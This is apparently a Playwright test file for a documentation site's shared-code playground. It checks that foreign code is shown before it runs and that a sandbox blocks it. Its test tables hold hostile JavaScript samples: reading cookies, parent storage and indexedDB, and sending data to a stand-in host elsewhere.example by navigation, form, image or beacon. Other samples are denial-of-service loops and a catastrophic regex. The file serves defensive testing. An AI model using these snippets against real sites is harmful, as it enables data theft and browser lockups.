import type {FrameLocator, Page} from '@playwright/test';
import {toShareHash} from '../../../src/lib/playground/shareLink';
import {expect, open, test} from '../support';

const SECRET = 'what the reader has stored';

async function linkTo(code: string): Promise<string> {
  const files = [{name: 'main.ts', code}];
  return `/templates/shared${await toShareHash({id: 'dockview/first-steps', framework: 'typescript', files})}`;
}

/** Opens a shared link as a reader who has something to lose. */
async function openShared(page: Page, code: string): Promise<void> {
  await page.addInitScript((value) => {
    if (window.origin === 'null') return;
    localStorage.setItem('secret', value);
    document.cookie = `secret=${encodeURIComponent(value)}`;
  }, SECRET);
  await open(page, await linkTo(code));
}

function output(page: Page): FrameLocator {
  return page.locator('iframe:not([inert])').contentFrame();
}

async function run(page: Page): Promise<void> {
  await page.getByRole('button', {name: 'Run this code'}).click();
}

/** Writes what an attempt gives, or how it fails, into the page of the sandbox. */
function attempt(expression: string): string {
  return `
let result;
try {
  result = 'got: ' + (${expression});
} catch (error) {
  result = 'refused: ' + error.name;
}
document.body.append(result);
`;
}

test('shared code is shown, named as foreign, and not run before the reader agrees', async ({page}) => {
  await openShared(page, "document.body.append('it runs');");
  await expect(page.getByText('It is not part of this site.')).toBeVisible();
  await expect(page.locator('.cm-content')).toContainText('it runs');
  await page.locator('.cm-content').click();
  await page.keyboard.press('ControlOrMeta+Enter');
  await expect(page.getByRole('button', {name: 'Run', exact: true})).toBeDisabled();
  await expect(page.locator('iframe')).toHaveCount(0);
  await run(page);
  await expect(output(page).locator('body')).toContainText('it runs');
});

test.describe('reading what is not its own', () => {
  test.use({expected: /Blocked|Unsafe attempt|Content Security Policy/});

  for (const [what, expression, answer] of [
    ['localStorage', 'localStorage.length + String(localStorage.getItem("secret"))', 'got: 0null'],
    ['the storage of the page around it', 'parent.localStorage.getItem("secret")', 'refused: SecurityError'],
    ['parent.document', 'parent.document.title', 'refused: SecurityError'],
    ['document.cookie', 'document.cookie', 'refused: SecurityError'],
    ['indexedDB', 'indexedDB.open("a")', 'refused: SecurityError'],
    ['a window of its own', 'window.open("/")', 'got: null'],
    ['a window of another site', 'window.open("https://elsewhere.example/")', 'got: null'],
    ['the answer of another host', 'await fetch("https://elsewhere.example/")', 'refused: TypeError'],
    ['the answer of the site', 'await fetch("/")', 'refused: TypeError'],
    ['the place of the page', 'top.location = "https://elsewhere.example/"', 'refused: SecurityError'],
  ] as const) {
    test(`hostile code that reads ${what} achieves nothing`, async ({page}) => {
      await openShared(page, attempt(expression));
      await run(page);
      await expect(output(page).locator('body')).toContainText(answer);
      await expect(output(page).locator('body')).not.toContainText(SECRET);
    });
  }
});

for (const [what, code] of [
  ['while (true)', 'while (true) {}'],
  ['for (;;)', 'for (;;);'],
  ['a loop that catches its own end', 'while (true) try { for (;;); } catch {}'],
] as const) {
  test(`hostile code that loops for ever with ${what} is stopped`, async ({page}) => {
    await openShared(page, code);
    await run(page);
    await expect(page.locator('[data-shown=true]')).toContainText('ran for more than 2 seconds');
  });
}

test('hostile code that calls itself for ever is stopped', async ({page}) => {
  await openShared(page, 'function again() { again(); } again();');
  await run(page);
  await expect(page.locator('[data-shown=true]')).toContainText('Maximum call stack');
});

for (const [what, code] of [
  ['a pattern that never ends', "/^(a+)+$/.test('a'.repeat(60) + 'b');"],
  ['promises that call for each other', 'function again() { return Promise.resolve().then(again); } again();'],
] as const) {
  test(`hostile code that no guard reaches (${what}) leaves the page usable, and Stop ends it`, async ({page}) => {
    await openShared(page, code);
    await run(page);
    await expect(page.locator('iframe')).toHaveCount(1);
    await page.getByRole('button', {name: 'Stop'}).click();
    await expect(page.locator('iframe')).toHaveCount(0);
  });
}

test.describe('hostile code that wants to send something', () => {
  test.use({expected: /Content Security Policy/});

  // A request to another host fails these tests.
  for (const [how, code] of [
    ['a page it brings', "location.href = 'data:text/html,elsewhere';"],
    ['another host', "location.href = 'https://elsewhere.example/?all-it-knows';"],
    [
      'another host by a form',
      'document.body.innerHTML = \'<form action="https://elsewhere.example/">\'; document.forms[0].submit();',
    ],
  ] as const) {
    test(`hostile code that leads its frame to ${how} is stopped`, async ({page}) => {
      await openShared(page, code);
      await run(page);
      await expect(page.locator('[data-shown=true]')).toContainText('tried to open another page');
      await expect(page.locator('iframe')).toHaveCount(0);
    });
  }

  for (const [what, send] of [
    ['a picture', 'new Image().src = address;'],
    ['a beacon', 'navigator.sendBeacon(address);'],
  ] as const) {
    test(`hostile code that sends ${what} to another host is refused`, async ({page}) => {
      await openShared(
        page,
        `const address = 'https://elsewhere.example/'; const box = document.body; ${send} box.append('it went on');`,
      );
      const refusal = page.waitForEvent('console', (message) => message.text().includes('Content Security Policy'));
      await run(page);
      await refusal;
      await expect(output(page).locator('body')).toContainText('it went on');
    });
  }
});

test('another link on the same page asks again', async ({page}) => {
  await openShared(page, "document.body.append('first');");
  await run(page);
  await expect(output(page).locator('body')).toContainText('first');
  const hash = (await linkTo("document.body.append('second');")).split('#')[1]!;
  await page.evaluate((value) => (window.location.hash = value), hash);
  await expect(page.locator('.cm-content')).toContainText('second');
  await expect(page.getByRole('button', {name: 'Run this code'})).toBeVisible();
  await expect(page.locator('iframe')).toHaveCount(0);
});

test('changes to shared code stay in the address', async ({page}) => {
  await openShared(page, '// start');
  const before = page.url();
  await page.locator('.cm-content').click();
  await page.keyboard.press('ControlOrMeta+End');
  // In one go: the address would change with the first letter.
  await page.keyboard.insertText(' and end');
  await expect.poll(() => page.url()).not.toBe(before);
  await page.reload();
  await expect(page.locator('.cm-content')).toContainText('// start and end');
});

for (const [what, hash, message] of [
  ['a broken link', '#code=abc', 'This link is broken'],
  ['a link that is too large', `#code=${'A'.repeat(40_000)}`, 'The code in this link is too large.'],
  ['a link of another version', '#code2=abc', 'another version of the site made it'],
  ['an address without code', '', 'This address carries no code.'],
] as const) {
  test(`${what} says so`, async ({page}) => {
    await open(page, `/templates/shared${hash}`);
    await expect(page.getByRole('alert').filter({hasText: message})).toBeVisible();
  });
}

test('a link that was cut off says so', async ({page}) => {
  const link = await linkTo('// a note of some length, so that a good part of it can be missing');
  await open(page, link.slice(0, -40));
  await expect(page.getByRole('alert').filter({hasText: 'a part of it is missing'})).toBeVisible();
});

test('after a broken link, Back brings the code with its changes', async ({page}) => {
  await openShared(page, '// start');
  await page.locator('.cm-content').click();
  await page.keyboard.press('ControlOrMeta+End');
  await page.keyboard.type(' and end');
  const before = page.url();
  await expect.poll(() => page.url()).not.toBe(before);
  await page.evaluate(() => (window.location.hash = `#code=${'A'.repeat(1_500_000)}`));
  await expect(page.getByRole('alert').filter({hasText: 'too large'})).toBeVisible();
  await page.goBack();
  await expect(page.locator('.cm-content')).toHaveText('// start and end');
});

test('Share makes a link that opens the edited code', async ({page, context}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await open(page, '/docs/overview/getStarted/installation');
  const box = page.locator('figure').filter({hasText: 'First steps'}).first();
  await box.getByRole('button', {name: 'Code', exact: true}).click();
  await box.locator('.cm-content').click();
  await page.keyboard.press('ControlOrMeta+Home');
  await page.keyboard.type('// changed by me\n');
  await box.getByRole('button', {name: 'Share'}).click();
  await expect(box.getByText('Link copied.')).toBeVisible();
  await open(page, await page.evaluate(() => navigator.clipboard.readText()));
  await expect(page.locator('.cm-content')).toContainText('// changed by me');
});
